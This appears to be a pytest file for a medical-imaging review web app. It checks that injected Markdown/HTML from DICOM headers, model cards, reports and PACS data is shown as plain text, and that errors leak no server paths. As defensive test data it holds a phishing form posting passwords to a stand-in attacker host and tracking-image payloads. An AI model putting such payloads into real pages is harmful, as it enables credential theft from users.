"""Issue 15 attacks repeated through AppTest: Markdown/HTML payloads in DICOM headers, a
comment, a model card and a package report are shown as text on every page; a bug is an
"internal error" with a reference ID, a scan problem is a scan problem; the Case dropdown
keeps the user's first choice; a single-slice plane does not crash the viewer."""

from __future__ import annotations

import logging
import re

import numpy as np

from medtl.artifacts import PredictionDetails
from medtl.io import ScanError, load_scan
from medtl.review import ReviewStore

from .helpers import (
    EVIL_HOST,
    HOSTILE,
    analyse,
    dicom_bytes,
    errors,
    hostile_dicom_bytes,
    make_package,
    new_app,
    page_text,
    seed_case,
    sign_in,
    upload,
)
from .markup import markdown_sources, page_offences
from .test_review import fill_review, open_case, submit


def _assert_no_markup(at, where: str) -> None:
    assert not at.exception, where
    bad = page_offences(at)
    assert bad == [], f"{where}: outside text rendered as markup: {bad}"


def _hostile_case() -> str:
    """A case whose image headers and stored AI result carry the payloads."""
    with ReviewStore.open() as store:
        alice = store.accounts.get_user("alice")
        case = store.create_case(alice, load_scan(hostile_dicom_bytes()))
        store.record_prediction(
            alice,
            case.case_id,
            model_name="tinycxr",
            model_version="1.0.0",
            label=HOSTILE["label"],
            probability=0.61,
            threshold=0.5,
            details=PredictionDetails(
                labels=["no nodule", HOSTILE["label"]],
                operating_point=HOSTILE["directive"],
                domain="warn",
                domain_reasons=[
                    f"Modality {HOSTILE['modality']} is unusual.",
                    HOSTILE["series"],
                ],
            ),
        )
        return case.case_id


def test_hostile_values_are_plain_text_on_every_page(app_home, tmp_path) -> None:
    make_package(
        tmp_path / "evil",
        name="evilpkg",
        intended_use=HOSTILE["intended_use"],
        target_task=HOSTILE["directive"],
        labels=["no nodule", HOSTILE["label"]],
        limitations=[HOSTILE["comment"], HOSTILE["series"]],
    )
    case_id = _hostile_case()

    # A clinician uploads the hostile DICOM and analyses it (the domain guard quotes it).
    at = sign_in(new_app().run(), "alice")
    upload(at, hostile_dicom_bytes(seed=22), name="![](x).dcm")
    _assert_no_markup(at, "upload")
    assert HOSTILE["modality"].upper() in page_text(at)  # shown, as text
    at.selectbox(key="model_choice").set_value("tinycxr@1.0.0").run()
    analyse(at)
    _assert_no_markup(at, "analyse")

    # ... reviews the hostile case with a hostile comment ...
    open_case(at, case_id)
    _assert_no_markup(at, "case review (before review)")
    assert any("Caution from the domain check" in str(w.value) for w in at.warning)
    submit(fill_review(at, case_id, "disagree", HOSTILE["comment"]), case_id)
    _assert_no_markup(at, "case review (after review)")
    assert HOSTILE["comment"] in page_text(at)  # the comment is shown, verbatim

    # The models page shows the hostile card as text.
    at.switch_page("pages/models_reports.py").run()
    at.selectbox(key="mr_model").set_value("evilpkg@1.0.0").run()
    _assert_no_markup(at, "models and reports")
    text = page_text(at)
    assert HOSTILE["intended_use"] in text and HOSTILE["directive"] in text

    at.switch_page("pages/worklist.py").run()
    _assert_no_markup(at, "worklist")

    # An admin sees every review, the audit log and the export page.
    admin = open_case(sign_in(new_app().run(), "adam"), case_id)
    _assert_no_markup(admin, "case review (admin)")
    admin.switch_page("pages/admin.py").run()
    _assert_no_markup(admin, "admin")
    # The payloads really went through the pages (the check is not vacuous).
    sources = "\n".join(markdown_sources(admin))
    assert "Signed in as" in sources


def test_the_checker_catches_unescaped_markup(app_home) -> None:
    """The same walk reports a payload put into the page unescaped (the check can fail)."""
    from .markup import markdown_offences

    for payload in HOSTILE.values():
        assert markdown_offences(f"Modality: {payload}"), payload


def test_package_report_is_framed_not_inlined(app_home, tmp_path) -> None:
    hostile_report = (
        "<html><head><style>body,section{display:none}</style></head><body>"
        f'<form action="https://{EVIL_HOST}/steal" method="post"><input name="password">'
        f'<button>Sign in</button></form><img src="https://{EVIL_HOST}/pixel.png">'
        "\n\n![md](//evil.example/md)\n</body></html>"
    )
    make_package(tmp_path / "evil", name="evilreport", report_html=hostile_report)
    at = sign_in(new_app().run(), "rita")
    at.switch_page("pages/models_reports.py").run()
    at.selectbox(key="mr_model").set_value("evilreport@1.0.0").run()
    assert not at.exception
    assert not at.get("html")  # nothing of the report is put into the page itself
    [frame] = [m for m in at.markdown if "<iframe" in m.value]
    assert frame.proto.allow_html  # the one element built with raw HTML: our frame
    body = frame.value
    assert re.fullmatch(r'<iframe sandbox="" [^<>]*srcdoc="[^"<>\n]*"></iframe>', body)
    assert "Content-Security-Policy" in body and "default-src &#x27;none&#x27;" in body
    assert page_offences(at) == []


def _crash_predict(*args, **kwargs):
    raise RuntimeError("bug in the model code /srv/secret/path.py")


def test_a_bug_is_an_internal_error_with_a_reference_in_the_log(
    app_home, monkeypatch, caplog, expect_internal_error
) -> None:
    from medtl.inference import Predictor

    at = sign_in(new_app().run(), "alice")
    upload(at, dicom_bytes(seed=30))
    monkeypatch.setattr(Predictor, "predict", _crash_predict)
    with caplog.at_level(logging.ERROR, logger="app.errors"):
        analyse(at)
    assert not at.exception
    [message] = errors(at)
    ref = re.search(r"reference ID (E-[A-Z0-9]{8})", message).group(1)
    assert message.startswith("Internal error while analysing a scan")
    assert "may not suit" not in message and "/srv/secret" not in message
    [record] = [r for r in caplog.records if ref in r.getMessage()]
    assert record.exc_info and "bug in the model code" in str(record.exc_info[1])


def test_a_scan_problem_is_shown_as_one(app_home, monkeypatch) -> None:
    from medtl.inference import Predictor

    def refuse(*args, **kwargs):
        raise ScanError(f"the scan has no pixels <img src=//{EVIL_HOST}/e>")

    at = sign_in(new_app().run(), "alice")
    upload(at, dicom_bytes(seed=31))
    monkeypatch.setattr(Predictor, "predict", refuse)
    analyse(at)
    [message] = errors(at)
    assert message == (
        f"This scan could not be analysed: the scan has no pixels <img src=//{EVIL_HOST}/e>"
    )
    assert page_offences(at) == []


def test_first_change_of_the_case_dropdown_is_kept(app_home) -> None:
    first, second = seed_case(0), seed_case(1)
    at = sign_in(new_app().run(), "bob")
    at.switch_page("pages/case_review.py").run()  # no case chosen before: the first is open
    assert at.selectbox(key="cr_case").value == first
    at.selectbox(key="cr_case").set_value(second).run()
    assert at.selectbox(key="cr_case").value == second
    assert f"Case **{second}**" in page_text(at)
    at.run()
    assert at.selectbox(key="cr_case").value == second
    at.selectbox(key="cr_case").set_value(first).run()
    assert f"Case **{first}**" in page_text(at)
    # Opening a case from the worklist still selects it.
    at.switch_page("pages/worklist.py").run()
    at.selectbox(key="wl_open_choice").set_value(second)
    at.button(key="wl_open").click().run()
    assert at.selectbox(key="cr_case").value == second


def _thin_series_zip() -> bytes:
    """A zip of a CT series of 2 slices of 1 x 64 pixels (a 2 x 1 x 64 volume)."""
    import io
    import zipfile

    import pydicom
    from pydicom.dataset import FileDataset, FileMetaDataset
    from pydicom.uid import CTImageStorage, ExplicitVRLittleEndian, generate_uid

    study, series, out = generate_uid(), generate_uid(), io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for k in range(2):
            meta = FileMetaDataset()
            meta.MediaStorageSOPClassUID = CTImageStorage
            meta.MediaStorageSOPInstanceUID = generate_uid()
            meta.TransferSyntaxUID = ExplicitVRLittleEndian
            ds = FileDataset(f"s{k}.dcm", {}, file_meta=meta, preamble=b"\0" * 128)
            ds.SOPClassUID, ds.SOPInstanceUID = CTImageStorage, meta.MediaStorageSOPInstanceUID
            ds.StudyInstanceUID, ds.SeriesInstanceUID = study, series
            ds.Modality, ds.InstanceNumber = "CT", k + 1
            ds.ImagePositionPatient = [0.0, 0.0, 2.5 * k]
            ds.ImageOrientationPatient = [1, 0, 0, 0, 1, 0]
            ds.PixelSpacing, ds.SliceThickness = [0.7, 0.7], 2.5
            ds.Rows, ds.Columns = 1, 64
            ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
            ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 16, 16, 15, 1
            ds.RescaleIntercept, ds.RescaleSlope = -1024, 1
            ds.PixelData = (np.arange(64, dtype=np.int16) * 20 + k).tobytes()
            buf = io.BytesIO()
            pydicom.dcmwrite(buf, ds, enforce_file_format=True)
            zf.writestr(f"s{k}.dcm", buf.getvalue())
    return out.getvalue()


def test_single_slice_plane_does_not_crash(app_home) -> None:
    at = sign_in(new_app().run(), "alice")
    upload(at, _thin_series_zip(), name="thin.zip", mime="application/zip")
    assert not at.exception and errors(at) == []
    assert "2 x 1 x 64" in page_text(at)
    at.radio(key="upload_viewer_view").set_value("coronal").run()
    assert not at.exception
    assert "Coronal plane: a single slice." in page_text(at)
    assert "coronal slice 1 of 1" in page_text(at)
    assert not [s for s in at.slider if s.key == "upload_viewer_slice_coronal"]
    at.radio(key="upload_viewer_view").set_value("sagittal").run()
    assert at.slider(key="upload_viewer_slice_sagittal").max == 64


def test_the_app_warns_when_it_listens_beyond_this_machine(app_home, caplog) -> None:
    from streamlit import config

    before = config.get_option("server.address")
    try:
        config.set_option("server.address", "0.0.0.0")
        with caplog.at_level(logging.WARNING, logger="app.main"):
            new_app().run()
        config.set_option("server.address", "127.0.0.1")
        st_cache_clear()
        with caplog.at_level(logging.WARNING, logger="app.main"):
            new_app().run()
    finally:
        config.set_option("server.address", before)
    [warning] = [r.getMessage() for r in caplog.records if r.name == "app.main"]
    assert "listens on 0.0.0.0" in warning and "docs/deploy/nginx.conf" in warning


def st_cache_clear() -> None:
    import streamlit as st

    st.cache_resource.clear()


def test_a_store_that_cannot_open_is_an_internal_error(
    app_home, monkeypatch, expect_internal_error
) -> None:
    (app_home / "blocker").write_text("a file where the database folder should be")
    monkeypatch.setenv("MEDTL_DATABASE_URL", f"sqlite:///{app_home}/blocker/db/x.sqlite")
    st_cache_clear()
    at = new_app().run()
    assert not at.exception  # no traceback box, no server path in the page
    [message] = errors(at)
    assert re.fullmatch(
        r"Internal error while opening the app, reference ID E-[A-Z0-9]{8}\..*", message
    )
    assert str(app_home) not in message


def test_pacs_page_shows_what_the_pacs_returns_as_text(app_home, tmp_path, monkeypatch) -> None:
    """Identifiers and descriptions from the PACS (a real Orthanc) carry the payloads: the
    PACS page shows them to the clinician as text, in the search results and after the
    analysis."""
    import io
    import warnings

    import pydicom
    import pytest

    from medtl.pacs.testing import PASSWORD as PACS_PASSWORD
    from medtl.pacs.testing import OrthancServer, orthanc_available

    if not orthanc_available():
        pytest.fail(
            "Orthanc and its DICOMweb plugin are needed: apt-get install orthanc "
            "orthanc-dicomweb (make test does it)"
        )
    ds = pydicom.dcmread(io.BytesIO(dicom_bytes(seed=50)))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # values longer than their VR allows
        ds.PatientName = HOSTILE["modality"]
        ds.PatientID = HOSTILE["body_part"]
        ds.AccessionNumber = "ACC-H11-EVIL"
        ds.StudyDescription = HOSTILE["directive"]
        ds.StudyDate = "20240102"
    server = OrthancServer(tmp_path / "orthanc")
    server.start()
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            server.upload(ds)
        secret = tmp_path / "pacs_password"
        secret.write_text(PACS_PASSWORD + "\n")
        for key, value in {**server.env(), "MEDTL_PACS_PASSWORD_FILE": str(secret)}.items():
            monkeypatch.setenv(key, value)

        at = sign_in(new_app().run(), "alice")
        at.switch_page("pages/pacs.py").run()
        _assert_no_markup(at, "pacs (empty)")
        at.text_input(key="pacs_accession").input("ACC-H11-EVIL")
        at.button(key="FormSubmitter:pacs_search-Search").click().run()
        _assert_no_markup(at, "pacs (search results)")
        [table] = [d.value for d in at.dataframe if "Patient ID" in d.value.columns]
        assert list(table["Patient ID"]) == [HOSTILE["body_part"]]  # shown, as text
        at.selectbox(key="pacs_model").set_value("tinycxr@1.0.0")
        at.button(key="pacs_analyse").click().run()
        _assert_no_markup(at, "pacs (analysed)")
        assert at.success and "Case CASE" in at.success[0].value
    finally:
        server.stop()
